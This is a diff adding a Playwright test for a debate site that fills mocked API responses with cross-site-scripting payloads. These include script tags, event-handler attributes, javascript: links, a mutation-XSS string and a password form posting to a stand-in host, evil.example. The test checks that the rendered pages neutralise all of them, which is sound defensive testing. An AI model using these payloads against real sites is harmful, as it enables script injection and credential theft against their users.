@@ -1,0 +1,118 @@
+import type { Page } from '@playwright/test'
+import type { Routes } from './foreign-api.ts'
+import { argument, debate } from './good-answers.ts'
+import { expect, test } from './test.ts'
+
+const fetched = 'https://evil.example/beacon'
+const html = [
+  '<p>Read <strong>this</strong></p>',
+  '<script>alert(1)</script>',
+  `<img src=x onerror=alert(1)><svg onload=alert(1)><style>@import '${fetched}'</style></svg>`,
+  `<iframe src="${fetched}"></iframe><object data="${fetched}"></object><link rel=stylesheet href="${fetched}"><base href="${fetched}">`,
+  '<a href="javascript:alert(1)" onclick="alert(1)">one</a> <a href="data:text/html,<script>alert(1)</script>">two</a>',
+  `<form action="${fetched}"><input name=password><button formaction="${fetched}">Sign in</button></form>`,
+  `<meta http-equiv=refresh content="0;url=${fetched}"><h1 id="main" style="position:fixed">A heading</h1>`,
+  '</p></article></main></div></body></html><main id="main">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+].join('')
+const text = `"><script>alert(1)</script><img src=x onerror=alert(1)>\u202e`
+
+const person = { id: 1, name: text, display_name: text, avatar: 'javascript:alert(1)' }
+const hostileDebate = {
+  ...debate,
+  topic: `Trams ${text}`,
+  description: text,
+  description_html: html,
+  avatar: `javascript:alert(1)//${text}`,
+  users: [person],
+  current_turn_user: person,
+  creator: person,
+  tags: [{ id: 1, slug: text, name: text, link: 'javascript:alert(1)' }],
+  status: text,
+  outcome: text,
+  feed_reasons: [text],
+  source: { name: text, license: text, url: 'javascript:alert(1)' },
+  permissions: { join: { allowed: false, reason: text }, argue: { allowed: true, reason: null }, vote: { allowed: true, reason: null } },
+}
+const hostileArgument = { ...argument, content: html, excerpt: text, author: person, created_at: text, content_source: text, is_own: true }
+
+const thread = { argument: hostileArgument, ancestors: [hostileArgument], previous: hostileArgument, debate_slug: 'trams' }
+
+const hostileAnswers: Routes = {
+  'GET /api/debates': { body: [hostileDebate] },
+  'GET /api/debates/{slug}': { body: hostileDebate },
+  'GET /api/debates/{id}/arguments': { body: [hostileArgument, { ...hostileArgument, id: 13, is_own: false }] },
+  'GET /api/arguments/{id}/rebuttals': { body: [{ ...hostileArgument, id: 13, parent_id: 12 }] },
+  'GET /api/arguments/{id}/thread': { body: thread },
+  'GET /api/feed/highlights': { body: [{ id: 12, content: html, excerpt: '', debate: { slug: 'trams', topic: text }, user: person }] },
+  'GET /api/tags': { body: hostileDebate.tags },
+  'GET /api/tags/{slug}': { body: hostileDebate.tags[0] },
+  'GET /api/me': { body: { ...person, email: text, bio: html } },
+  'POST /api/preview': { body: { content: html } },
+  'POST /api/arguments/{id}/vote': { status: 422, body: { message: `Refused. ${text}` } },
+}
+
+test.use({ bypassCSP: true }) // what the policy would stop must not be there to be stopped
+
+for (const who of ['guest', 'member'] as const) {
+  test(`hostile HTML and words of an API reach a ${who}'s pages as words, or not at all`, async ({ site, api, page }) => {
+    const alarms = alarmsOf(page, site)
+    if (who === 'member') await signIn(page, site)
+    Object.assign(api.routes, hostileAnswers)
+    for (const path of ['/', '/debates', '/tags/x', '/debates/trams', '/debates/trams/arguments/12?context=3']) {
+      const answer = await page.goto(site + path)
+      expect.soft(answer?.status(), path).toBe(200)
+      expect.soft(await harmIn(page), path).toEqual([])
+    }
+    await page.goto(`${site}/debates/trams`)
+    await expect(page.locator('#n12 .prose')).toContainText('Read this')
+    await page.getByRole('radio', { name: /^For/ }).check()
+    await page.getByLabel('Your argument').fill('whatever')
+    await page.getByRole('button', { name: 'Preview the argument' }).click()
+    await expect(page.locator('#preview')).toContainText('Read this')
+    expect.soft(await harmIn(page), 'preview').toEqual([])
+    await page.getByRole('button', { name: 'Vote up #13' }).click()
+    await expect(page.getByText(who === 'guest' ? 'Your text waits here' : 'Refused.').first()).toBeVisible()
+    expect.soft(await harmIn(page), 'after a vote').toEqual([])
+    expect(alarms).toEqual([])
+  })
+}
+
+async function signIn(page: Page, site: string) {
+  await page.goto(`${site}/auth?mode=login`)
+  await page.getByRole('main').getByLabel('Email').fill('ann@example.org')
+  await page.getByRole('main').getByLabel('Password').fill('whatever it is')
+  await page.getByRole('main').getByRole('button', { name: 'Sign in' }).click()
+  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible()
+}
+
+/** Scripts that ran, and what was asked of anybody else. */
+function alarmsOf(page: Page, site: string) {
+  const alarms: string[] = []
+  page.on('dialog', (dialog) => {
+    alarms.push(dialog.message())
+    return dialog.dismiss()
+  })
+  page.on('request', (request) => void (request.url().startsWith(site) || alarms.push(request.url())))
+  return alarms
+}
+
+/** Whatever stands in the page that could do harm, once somebody touches it say. */
+function harmIn(page: Page) {
+  return page.evaluate(() => {
+    const never = 'iframe, object, embed, base, svg, math, style, meta[http-equiv], [style], [formaction], main main, h1 ~ h1'
+    const leads = (element: Element, name: string) => {
+      const value = element.getAttribute(name)
+      return value !== null && !(URL.canParse(value, location.href) && /^(https?|mailto):/.test(new URL(value, location.href).protocol))
+    }
+    const away = (element: Element) => ['href', 'src', 'action'].some((name) => leads(element, name))
+    const acts = (element: Element) => element.getAttributeNames().some((name) => name.startsWith('on'))
+    const all = [...document.querySelectorAll('*')]
+    const scripts = all.filter(({ tagName, textContent }) => tagName === 'SCRIPT' && textContent?.trim() === 'alert(1)')
+    const bad = [...document.querySelectorAll(never), ...all.filter(away), ...all.filter(acts), ...scripts]
+    const theirs = [...document.querySelectorAll('form, img, link')].filter(({ outerHTML }) =>
+      /(action|src|href)="[^"]*evil/.test(outerHTML),
+    )
+    return [...bad, ...theirs].map(({ outerHTML }) => outerHTML.slice(0, 200))
+  })
+}
